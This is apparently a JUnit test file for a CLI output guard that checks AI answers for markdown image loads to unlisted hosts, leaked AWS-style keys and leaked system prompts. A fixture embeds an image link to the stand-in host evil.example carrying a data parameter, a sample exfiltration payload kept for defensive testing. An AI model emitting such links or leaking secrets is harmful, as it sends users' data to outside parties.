package dev.countersign.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The output gate on the command line. */
class GuardOutputTest {
  @TempDir Path folder;

  @BeforeEach
  void anAnswerThatLoadsAPicture() throws IOException {
    write("answer.md", "Hello\n![x](https://evil.example/?d=1)\n");
    write("fine.md", "Hello, see `<script>` and [docs](https://docs.python.org/3/).\n");
  }

  private String write(String name, String text) throws IOException {
    return Files.writeString(folder.resolve(name), text).toString();
  }

  private Run check(String destination, String file, String... more) {
    String[] args = new String[5 + more.length];
    args[0] = "guard";
    args[1] = "check";
    args[2] = "--for";
    args[3] = destination;
    args[4] = folder.resolve(file).toString();
    System.arraycopy(more, 0, args, 5, more.length);
    return Run.of(args);
  }

  @Test
  void whatSpeaksAgainstATextIsToldWithItsPlace() {
    Run run = check("markdown", "answer.md");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.lines().get(0)).isEqualTo("2:1 reject markup.load");
    assertThat(run.out()).contains("a host that is not listed", "--encode");
    assertThat(check("markdown", "fine.md").code()).isZero();
    assertThat(check("markdown", "fine.md").out()).isEqualTo("accept for markdown\n");
  }

  @Test
  void theEncodedTextIsPrintedAlone() {
    Run run = check("html", "answer.md", "--encode");
    assertThat(run.code()).isZero();
    assertThat(run.out()).startsWith("Hello\n!").doesNotContain("<", "=");
  }

  @Test
  void whatNoEncodingMakesSafeIsNotPrinted() throws IOException {
    write("key.txt", "AKIA" + "Q3EGZ7RJ2XK5TWLM\n");
    Run run = check("html", "key.txt", "--encode");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out()).isEmpty();
    assertThat(run.err()).contains("Nothing printed").doesNotContain("Q3EGZ7RJ");
  }

  @Test
  void programsGetTheSame() {
    Run run = check("markdown", "answer.md", "--format", "json");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out())
        .contains("\"decision\": \"reject\"", "\"rule\": \"markup.load\"", "\"place\": \"2:1\"");
    Published.assertIs("guard-check", run.out());
    Published.assertIs("guard-check", check("markdown", "fine.md", "--format", "json").out());
  }

  @Test
  void aPolicyListsHosts() throws IOException {
    String policy = write("output-policy.yaml", "output-policy: 1\nhosts: [evil.example]\n");
    assertThat(check("markdown", "answer.md", "--policy", policy).code()).isZero();
    String wrong = write("wrong.yaml", "output-policy: 1\nhots: [evil.example]\n");
    Run run = check("markdown", "answer.md", "--policy", wrong);
    assertThat(run.code()).isEqualTo(2);
    assertThat(run.err()).contains("wrong.yaml:2:1", "Did you mean 'hosts'?", "nothing checked");
  }

  @Test
  void aSignedPolicyCountsIfTheKeyIsTrusted() throws IOException {
    String policy = write("output-policy.yaml", "output-policy: 1\nhosts: [evil.example]\n");
    String key = folder.resolve("ada").toString();
    Run.of("keys", "new", "--no-passphrase", "--out", key);
    Run.of("keys", "new", "--no-passphrase", "--out", folder.resolve("eve").toString());
    String signed = folder.resolve("signed.json").toString();
    Run sign =
        Run.of(
            "guard", "sign", policy, "--model", policy, "--out", signed, "--key", key + ".key.pem");
    assertThat(sign.err()).isEmpty();
    assertThat(
            check("markdown", "answer.md", "--policy", signed, "--public-key", key + ".pub.pem")
                .code())
        .isZero();
    String other = folder.resolve("eve.pub.pem").toString();
    Run refused = check("markdown", "answer.md", "--policy", signed, "--public-key", other);
    assertThat(refused.code()).isEqualTo(2);
    assertThat(refused.err()).contains("proves nothing");
  }

  @Test
  void theSystemPromptIsGuarded() throws IOException {
    String prompt = "You are Atlas. Gold customers get 14 percent, silver ones get 9 percent.";
    write("leak.txt", "My rules: " + prompt.toUpperCase(java.util.Locale.ROOT) + "\n");
    String file = write("prompt.txt", prompt);
    assertThat(check("text", "leak.txt").code()).isZero();
    Run run = check("text", "leak.txt", "--system-prompt", file);
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out()).contains("leak.system-prompt");
  }

  @Test
  void wrongUsageIsNoStackTrace() {
    assertThat(check("markdon", "fine.md").code()).isEqualTo(2);
    assertThat(check("markdon", "fine.md").err()).contains("'markdon' is no destination");
    assertThat(check("markdown", "missing.md").code()).isEqualTo(2);
    assertThat(check("markdown", "missing.md").err()).contains("cannot be read");
    assertThat(check("markdown", "fine.md", "--policy", "none.json").code()).isEqualTo(2);
  }
}
